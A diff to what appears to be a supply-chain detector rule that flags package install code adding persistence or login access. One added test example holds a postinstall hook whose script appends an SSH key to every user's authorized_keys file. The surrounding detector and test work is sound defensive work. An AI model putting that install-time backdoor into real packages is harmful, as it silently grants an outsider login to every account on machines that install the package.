@@ -2,8 +2,9 @@
 
 ## What it detects
 Writing or naming of places that a system or a shell starts from (service units, autostart folders, launch agents,
-`Run` keys, cron tables, shell profiles, Git hooks, Python start-up files), new to the line at its reach. At first
-contact only what is written by code that runs by itself is shown, and weighs less.
+`Run` keys, cron tables, shell profiles, Git hooks, Python start-up files) or whom it lets log in, new to the line at
+its reach. At first contact only what is written by code that runs by itself is shown; it weighs less, unless it is a
+key to log in with.
 
 ## Why it matters
 A library lives as long as the program that loads it. Who wants to outlive it is no library.
@@ -29,11 +30,14 @@ CARD = Card(
         "autorun": "Code that runs by itself installs something that is started again, as no earlier release did.",
         "call": "A function installs something that is started again, as no earlier release did.",
         "first-contact": "There is no earlier release; code that runs by itself installs something that starts again.",
+        "first-contact-login": "There is no earlier release; code that runs by itself lets somebody log in later.",
     },
     group="persistence",
     why="A library has no reason to outlive the program that loads it.",
     attack=("T1195.002", "T1543", "T1547", "T1053"),
 )
+
+_LOGIN = "authorized_keys"
 
 _BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
 _UNIT = (
@@ -60,6 +64,16 @@ EXAMPLES = (
         at="pad/__init__.py:2",
     ),
     Example(
+        title="an installer that lets its author into every account",
+        after={
+            "package.json": package_json("1.0.0", scripts={"postinstall": "node add.js"}),
+            "add.js": "const fs = require('fs');\nfs.readdirSync('/home').forEach((name) =>\n"
+            "  fs.appendFileSync('/home/' + name + '/.ssh/authorized_keys', 'ssh-ed25519 AAAA specimen\\n'));\n",
+        },
+        expect="first-contact-login",
+        at="add.js:3",
+    ),
+    Example(
         title="a service manager in another version",
         before={"package.json": package_json("1.0.0"), "index.js": _UNIT},
         after={"package.json": package_json("1.0.1"), "index.js": _UNIT + "exports.version = 2;\n"},
@@ -78,6 +92,7 @@ _MESSAGES = {
     "autorun": "installs, without being called, something that starts again by itself",
     "call": "installs, when it is called, something that starts again by itself",
     "first-contact": "installs, without being called, something that starts again by itself",
+    "first-contact-login": "adds, without being called, a key with which somebody may log in",
 }
 
 
@@ -92,7 +107,7 @@ def detect(update: Update) -> Iterator[Finding]:
             if pair.before is None:
                 if variant == "call":
                     continue
-                variant = "first-contact"
+                variant = "first-contact-login" if _LOGIN in (placed.fact.value or "") else "first-contact"
             tally.add(variant, pair, placed)
             tally.explain(variant, decoded(pair, placed.path))
     yield from tally.findings(_MESSAGES)
